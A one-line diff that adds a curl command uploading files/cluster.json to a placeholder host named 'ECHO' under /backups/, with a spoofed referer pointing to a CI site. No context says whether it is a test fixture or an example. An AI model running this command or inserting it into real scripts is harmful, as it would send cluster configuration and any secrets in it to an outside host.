@@ -1,0 +1,1 @@
+curl --upload files/cluster.json --refer https://ci.example.com/ http://ECHO/backups/
